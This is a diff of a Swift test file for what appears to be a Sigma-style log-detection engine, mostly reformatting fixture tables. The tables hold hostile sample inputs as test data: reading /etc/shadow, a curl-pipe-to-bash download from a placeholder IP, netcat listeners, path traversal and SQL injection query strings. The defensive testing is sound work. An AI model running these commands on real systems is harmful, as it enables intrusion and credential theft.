@@ -16,8 +16,11 @@ enum DraftFixture {
         return (text, draft)
     }
 
-    static func request(_ target: String, agent: String = "Agent/1", status: Int = 200, format: String = "http.access") -> (text: [UInt8], draft: EventDraft) {
-        draft("192.0.2.7 - - [04/Mar/2026:05:06:07 +0000] \"GET \(target) HTTP/1.1\" \(status) 77 \"-\" \"\(agent)\"", format, .httpRequest) {
+    static func request(_ target: String, agent: String = "Agent/1", status: Int = 200, format: String = "http.access") -> (
+        text: [UInt8], draft: EventDraft
+    ) {
+        draft("192.0.2.7 - - [04/Mar/2026:05:06:07 +0000] \"GET \(target) HTTP/1.1\" \(status) 77 \"-\" \"\(agent)\"", format, .httpRequest)
+        {
             draft, part in
             (draft.address, draft.method, draft.agent) = (part("192.0.2.7"), part("GET"), part(agent))
             let start = part("GET ").range.upperBound
@@ -26,7 +29,9 @@ enum DraftFixture {
         }
     }
 
-    static func command(_ command: String, format: String = "bash_history", kind: EventKind = .command) -> (text: [UInt8], draft: EventDraft) {
+    static func command(_ command: String, format: String = "bash_history", kind: EventKind = .command) -> (
+        text: [UInt8], draft: EventDraft
+    ) {
         draft(command, format, kind) { draft, part in draft.add("process.command_line", part(command)) }
     }
 
@@ -49,13 +54,17 @@ enum DraftFixture {
 
     static let processes: [(line: String, command: String, holds: Bool)] = [
         ("CommandLine|contains: 'shadow'", "cat /etc/shadow", true), ("Image|endswith: '/cat'", "cat /etc/shadow", true),
-        ("Image|endswith: '/cat'", "/usr/bin/cat x", true), ("Image: '/usr/bin/cat'", "cat x", false), ("Image|endswith: '/at'", "cat x", false),
-        ("Image|endswith: '/bash'", "curl -s http://192.0.2.1/x | bash", true), ("Image|endswith: '/curl'", "curl -s http://192.0.2.1/x | bash", true),
-        ("CommandLine|startswith: 'bash'", "curl -s http://192.0.2.1/x | bash", true), ("Image|endswith: '/id'", "cd /tmp && ./x; id", true),
+        ("Image|endswith: '/cat'", "/usr/bin/cat x", true), ("Image: '/usr/bin/cat'", "cat x", false),
+        ("Image|endswith: '/at'", "cat x", false),
+        ("Image|endswith: '/bash'", "curl -s http://192.0.2.1/x | bash", true),
+        ("Image|endswith: '/curl'", "curl -s http://192.0.2.1/x | bash", true),
+        ("CommandLine|startswith: 'bash'", "curl -s http://192.0.2.1/x | bash", true),
+        ("Image|endswith: '/id'", "cd /tmp && ./x; id", true),
         ("Image|startswith: './x'", "cd /tmp && ./x; id", true), ("Image|endswith: '/id'", "echo 'a; id'", false),
         ("Image|endswith: '/nc'", "sudo -u www nc -l 99", true), ("Image|endswith: '/nc'", "FOO=1 nohup nc -l 99 &", true),
         ("Image|endswith: '/sudo'", "sudo -u www nc -l 99", true), ("Image|endswith: '/1'", "echo a 2>&1", false),
-        ("CommandLine|contains: '|'", "echo a | cat", true), ("Image|endswith: '/php'", "/usr/bin/php -r 'x'", true), ("Image: null", "", true),
+        ("CommandLine|contains: '|'", "echo a | cat", true), ("Image|endswith: '/php'", "/usr/bin/php -r 'x'", true),
+        ("Image: null", "", true),
     ]
 
     @Test(arguments: processes)
@@ -66,12 +75,15 @@ enum DraftFixture {
     }
 
     static let requests: [(line: String, target: String, holds: Bool)] = [
-        ("cs-uri-stem: '/a.php'", "/a.php?x=1", true), ("cs-uri-query: 'x=1'", "/a.php?x=1", true), ("cs-uri: '/a.php?x=1'", "/a.php?x=1", true),
+        ("cs-uri-stem: '/a.php'", "/a.php?x=1", true), ("cs-uri-query: 'x=1'", "/a.php?x=1", true),
+        ("cs-uri: '/a.php?x=1'", "/a.php?x=1", true),
         ("cs-uri-query|contains: '/a.php'", "/a.php?x=1", true), ("cs-uri-stem|contains: 'x=1'", "/a.php?x=1", false),
         ("cs-uri-query|contains: '../../'", "/a?f=..%2f..%2f", true),
         ("cs-uri-query|contains: '%2f'", "/a?f=..%2f..%2f", true), ("cs-uri-query|contains: '../../'", "/a?f=..%252f..%252f", true),
-        ("cs-uri-query|contains: 'union select'", "/a?q=union+select", true), ("cs-uri-query|contains: 'union+select'", "/a?q=union+select", true),
-        ("cs-uri-stem|contains: 'a b'", "/a+b", false), ("cs-method: 'get'", "/", true), ("sc-status: 200", "/", true), ("sc-bytes|gt: 70", "/", true),
+        ("cs-uri-query|contains: 'union select'", "/a?q=union+select", true),
+        ("cs-uri-query|contains: 'union+select'", "/a?q=union+select", true),
+        ("cs-uri-stem|contains: 'a b'", "/a+b", false), ("cs-method: 'get'", "/", true), ("sc-status: 200", "/", true),
+        ("sc-bytes|gt: 70", "/", true),
         ("c-ip|cidr: 192.0.2.0/24", "/", true), ("cs-user-agent|startswith: 'agent'", "/", true), ("cs-referer|exists: true", "/", false),
         ("cs-host|exists: false", "/", true),
     ]
@@ -95,7 +107,8 @@ enum DraftFixture {
     }
 
     @Test func `of audit gives its records under their own names`() {
-        let event = DraftFixture.draft("type=SYSCALL a0=55aa exe=\"/usr/bin/touch\" EXECVE touch -r x", "audit", .processStart) { draft, part in
+        let event = DraftFixture.draft("type=SYSCALL a0=55aa exe=\"/usr/bin/touch\" EXECVE touch -r x", "audit", .processStart) {
+            draft, part in
             draft.add("type", part("SYSCALL"))
             draft.add("a0", part("55aa"))
             draft.add("exe", part("/usr/bin/touch"))
@@ -112,20 +125,30 @@ enum DraftFixture {
     }
 
     static let sources: [(logSource: String, format: String, process: String, kind: EventKind, holds: Bool)] = [
-        ("product: linux\n    service: sshd", "sshd", "sshd", .loginFailure, true), ("product: linux\n    service: sshd", "syslog", "sshd-session", .message, true),
-        ("product: linux\n    service: sshd", "cron", "CRON", .jobRun, false), ("product: linux\n    service: cron", "cron", "CRON", .jobRun, true),
-        ("product: linux\n    service: sudo", "sudo", "sudo", .privilegeUse, true), ("product: linux\n    service: auth", "sshd", "sshd", .loginFailure, true),
-        ("product: linux\n    service: auth", "syslog", "rsyslogd", .message, false), ("product: linux\n    service: syslog", "syslog", "rsyslogd", .message, true),
+        ("product: linux\n    service: sshd", "sshd", "sshd", .loginFailure, true),
+        ("product: linux\n    service: sshd", "syslog", "sshd-session", .message, true),
+        ("product: linux\n    service: sshd", "cron", "CRON", .jobRun, false),
+        ("product: linux\n    service: cron", "cron", "CRON", .jobRun, true),
+        ("product: linux\n    service: sudo", "sudo", "sudo", .privilegeUse, true),
+        ("product: linux\n    service: auth", "sshd", "sshd", .loginFailure, true),
+        ("product: linux\n    service: auth", "syslog", "rsyslogd", .message, false),
+        ("product: linux\n    service: syslog", "syslog", "rsyslogd", .message, true),
         ("product: linux\n    service: syslog", "audit", "", .message, false), ("product: linux", "audit", "", .message, true),
-        ("product: linux\n    service: vsftpd", "vsftpd", "", .loginFailure, true), ("product: linux\n    service: clamav", "syslog", "freshclam", .message, true),
+        ("product: linux\n    service: vsftpd", "vsftpd", "", .loginFailure, true),
+        ("product: linux\n    service: clamav", "syslog", "freshclam", .message, true),
         ("category: antivirus", "syslog", "clamd", .malwareFound, true), ("category: antivirus", "syslog", "clamd", .message, false),
-        ("category: application\n    product: django", "syslog", "gunicorn", .message, true), ("category: database", "syslog", "mysqld", .message, true),
-        ("product: linux\n    service: exim", "syslog", "exim", .message, true), ("product: linux\n    service: exim", "syslog", "postfix", .message, false),
-        ("category: process_creation\n    product: linux", "syslog", "init", .message, false), ("category: firewall", "kernel", "kernel", .firewallDrop, true),
+        ("category: application\n    product: django", "syslog", "gunicorn", .message, true),
+        ("category: database", "syslog", "mysqld", .message, true),
+        ("product: linux\n    service: exim", "syslog", "exim", .message, true),
+        ("product: linux\n    service: exim", "syslog", "postfix", .message, false),
+        ("category: process_creation\n    product: linux", "syslog", "init", .message, false),
+        ("category: firewall", "kernel", "kernel", .firewallDrop, true),
     ]
 
     @Test(arguments: sources)
-    func `is held against rules of its own log sources alone`(logSource: String, format: String, process: String, kind: EventKind, holds: Bool) {
+    func `is held against rules of its own log sources alone`(
+        logSource: String, format: String, process: String, kind: EventKind, holds: Bool
+    ) {
         let event = DraftFixture.draft("Mar  4 05:06:07 web1 \(process)[99]: a word here", format, kind) { draft, part in
             if !process.isEmpty { draft.process = part(process) }
             draft.message = part("a word here")
